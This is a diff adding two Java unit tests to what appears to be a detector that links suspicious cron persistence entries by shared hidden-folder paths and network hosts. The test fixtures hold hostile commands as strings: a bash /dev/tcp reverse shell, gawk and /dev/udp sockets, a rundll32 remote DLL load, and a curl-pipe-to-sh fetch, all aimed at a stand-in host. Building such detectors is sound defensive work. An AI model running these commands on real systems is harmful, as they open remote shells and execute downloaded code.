@@ -86,6 +86,41 @@ final class FeaturesTest {
         assertEquals(Set.of(), find.ordinaryWords());
     }
 
+    /** githooks(5): these names are every repository's. */
+    @Test
+    void aHiddenFolderIsKnownByItsNameWhateverLiesInIt() {
+        for (String[] pair : new String[][] {
+            {"/var/tmp/.X17-lock/kd", "/dev/shm/.X23-lock/tq"},
+            {"/usr/lib/.bfm/a", "/opt/.bfm2/z9"},
+            {"/var/lib/.sysd/agent.sh", "/usr/share/.sysd3/w"}
+        }) {
+            Map<String, String> marked = cron("* * * * * " + pair[0], pair[0]);
+            assertEquals(
+                    Optional.of(Certainty.POSSIBLE), certainty(marked, cron("@reboot " + pair[1], pair[1])), pair[1]);
+        }
+        Map<String, String> marked = cron("@daily /srv/app/.git/hooks/post-merge", "/srv/app/.git/hooks/post-merge");
+        for (String ordinary :
+                List.of("/srv/site/.git/hooks/post-merge", "/home/lea/.config/autostart/x.sh", "/opt/.q/run")) {
+            assertEquals(Optional.empty(), certainty(marked, cron("@reboot " + ordinary, ordinary)), ordinary);
+        }
+    }
+
+    /** bash(1), Redirection; gawk(1), special files; a share of another host. */
+    @Test
+    void aHostBehindWhatOpensAConnectionIsAnAddress() {
+        for (String opened : List.of(
+                "bash -i >& /dev/tcp/sync.timecheck-pool.cfd/9001 0>&1",
+                "exec 3<>/dev/udp/sync.timecheck-pool.cfd/53",
+                "awk 'BEGIN{s=\"/inet/tcp/0/sync.timecheck-pool.cfd/9001\"}'",
+                "rundll32 \\\\sync.timecheck-pool.cfd\\a\\b.dll,c")) {
+            Map<String, String> marked = cron("* * * * * " + opened, "/bin/bash");
+            assertEquals(
+                    Optional.of(Certainty.LIKELY),
+                    certainty(marked, cron("@reboot curl -s https://sync.timecheck-pool.cfd/zz | sh", "/usr/bin/curl")),
+                    opened);
+        }
+    }
+
     private static Map<String, String> variable(String name, String value) {
         return Map.of(
                 "location",
